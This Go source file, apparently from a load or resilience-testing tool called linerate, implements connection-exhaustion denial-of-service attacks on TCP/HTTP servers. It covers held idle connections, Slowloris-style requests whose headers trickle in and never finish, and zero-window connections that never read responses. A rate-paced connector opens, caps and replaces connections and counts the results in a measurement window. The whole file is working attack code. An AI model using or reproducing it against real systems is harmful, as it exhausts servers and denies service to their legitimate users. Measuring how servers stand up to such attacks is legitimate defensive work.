package attack

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"linerate/internal/host/pace"
	"linerate/internal/host/socket"
	"linerate/internal/kernel/sock"
	"linerate/internal/model/attacks"
	"linerate/internal/model/message"
	"linerate/internal/model/netstate"
	"linerate/internal/model/record"
)

const (
	// connectTime limits how long opening a connection may take: longer than the first retransmission of a SYN
	// (RFC 6298, 1 s).
	connectTime = 3 * time.Second
	// fieldEvery is the interval between header fields of a slow request.
	fieldEvery = 2 * time.Second
	// smallBuffer is the receive buffer, in bytes, of a connection whose response is not read: the kernel's
	// minimum (SOCK_MIN_RCVBUF).
	smallBuffer = 2304
	// pollEvery is how often the state of an unread connection is checked.
	pollEvery = 100 * time.Millisecond
)

// connector attacks with TCP connections: it opens them at a given rate, keeps up to a given number open, and
// replaces those that the other end closes.
type connector struct {
	message.AttackRequest
	slots chan struct{} // holds one element for each connection that is open or being opened
	open  atomic.Int64
	// opened, refused and closed count since the start.
	opened, refused, closed atomic.Int64
	why                     atomic.Pointer[string] // the first refusal
}

func newConnector(r message.AttackRequest) *connector {
	return &connector{AttackRequest: r, slots: make(chan struct{}, r.Connections)}
}

// run opens connections until the attack must stop, closes them, and returns the counts of the window.
func (c *connector) run(s *signals) (counts record.AttackCounts) {
	ctx, cancel := context.WithCancel(context.Background())
	var held sync.WaitGroup
	defer held.Wait()
	defer cancel()
	random := rand.New(rand.NewPCG(c.Seed[0], c.Seed[1]))
	schedule := pace.New(float64(c.PerSecond))
	schedule.Start(s.start)
	var before [3]int64
	began, ended := false, false
	edges := func(at int64) { // counts read as soon as possible after the window begins and ends
		if !began && at >= s.begin {
			before, began = [3]int64{c.opened.Load(), c.refused.Load(), c.closed.Load()}, true
		}
		if !ended && at >= s.end.Load() {
			counts = c.counts(before)
			ended = true
		}
	}
	for at := now(); !s.left(at); at = now() {
		edges(at)
		due, skipped, next := schedule.Due(at)
		if s.within(at) && len(c.slots) < cap(c.slots) {
			counts.Skipped += skipped
		}
		for range due {
			schedule.Sent(1)
			select {
			case c.slots <- struct{}{}:
				name := random.Uint64()
				held.Go(func() {
					defer func() { <-c.slots }()
					c.hold(ctx, name)
				})
			default: // the maximum number are open
			}
		}
		if due == 0 {
			until := min(next, s.stop.Load(), at+int64(checkEvery))
			if !began {
				until = min(until, max(at, s.begin))
			} else if !ended {
				until = min(until, max(at, s.end.Load()))
			}
			select {
			case <-time.After(time.Duration(until - at)):
			case <-s.quit:
			}
		}
	}
	edges(now())
	if !ended {
		counts = c.counts(before)
	}
	return counts
}

// counts returns what was opened, refused and closed since before; the number of open connections is the
// current one.
func (c *connector) counts(before [3]int64) record.AttackCounts {
	counts := record.AttackCounts{Sent: c.opened.Load() - before[0], Refused: c.refused.Load() - before[1],
		Closed: c.closed.Load() - before[2], Open: c.open.Load()}
	if why := c.why.Load(); why != nil && counts.Open == 0 && counts.Sent == 0 {
		counts.Error = *why
	}
	return counts
}

// hold opens a connection, misuses it as the attack's kind says, and returns when it is closed.
func (c *connector) hold(ctx context.Context, name uint64) {
	dialer := net.Dialer{Timeout: connectTime, KeepAlive: -1}
	if c.Kind == attacks.ZeroWindow {
		dialer.Control = func(_, _ string, raw syscall.RawConn) error {
			var failed error
			err := raw.Control(func(fd uintptr) { failed = sock.SetBuffers(int(fd), 0, smallBuffer) })
			return errors.Join(err, failed)
		}
	}
	dialer.SetMultipathTCP(false)
	conn, err := dialer.DialContext(ctx, "tcp", c.Target.String())
	if err != nil {
		if ctx.Err() == nil {
			c.refused.Add(1)
			why := err.Error()
			c.why.CompareAndSwap(nil, &why)
		}
		return
	}
	tcp := conn.(*net.TCPConn)
	defer socket.Reset(tcp)
	stop := context.AfterFunc(ctx, func() { _ = tcp.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	c.opened.Add(1)
	c.open.Add(1)
	defer c.open.Add(-1)
	switch c.Kind {
	case attacks.IdleConnections:
		err = drain(tcp)
	case attacks.ZeroWindow:
		err = c.unread(ctx, tcp, name)
	default:
		err = c.slow(ctx, tcp, name)
	}
	if err != nil && ctx.Err() == nil {
		c.closed.Add(1)
	}
}

// drain reads and discards until the other end closes.
func drain(conn *net.TCPConn) error {
	buffer := make([]byte, 512)
	for {
		if _, err := conn.Read(buffer); err != nil {
			return err
		}
	}
}

// slow sends the header of a request field by field and never completes it.
func (c *connector) slow(ctx context.Context, conn *net.TCPConn, name uint64) error {
	if err := c.write(conn, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nX-%x: ", c.Path, c.Target, name)); err != nil {
		return err
	}
	buffer := make([]byte, 512)
	for ctx.Err() == nil {
		_ = conn.SetReadDeadline(time.Now().Add(fieldEvery))
		if ctx.Err() != nil { // cancelling ctx has changed the deadline
			return ctx.Err()
		}
		switch _, err := conn.Read(buffer); {
		case errors.Is(err, os.ErrDeadlineExceeded):
		case err != nil:
			return err
		default:
			continue // a response, such as 408, may come before the close
		}
		if err := c.write(conn, "a\r\nX-b: "); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// unread sends a whole request and does not read the response.
func (c *connector) unread(ctx context.Context, conn *net.TCPConn, name uint64) error {
	if err := c.write(conn, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nX-%x: a\r\n\r\n", c.Path, c.Target,
		name)); err != nil {
		return err
	}
	raw, err := conn.SyscallConn()
	if err != nil {
		return err
	}
	tick := time.NewTicker(pollEvery)
	defer tick.Stop()
	for {
		var info netstate.TCPInfo
		err := raw.Control(func(fd uintptr) { info, _ = sock.TCPInfo(int(fd)) })
		if err != nil || info.State != 0 && info.State != netstate.TCPEstablished {
			return errors.Join(err, errClosed)
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// errClosed means that the other end has closed the connection.
var errClosed = errors.New("the other end has closed the connection")

// write sends text; it fails after connectTime.
func (c *connector) write(conn *net.TCPConn, text string) error {
	_ = conn.SetWriteDeadline(time.Now().Add(connectTime))
	_, err := conn.Write([]byte(text))
	return err
}
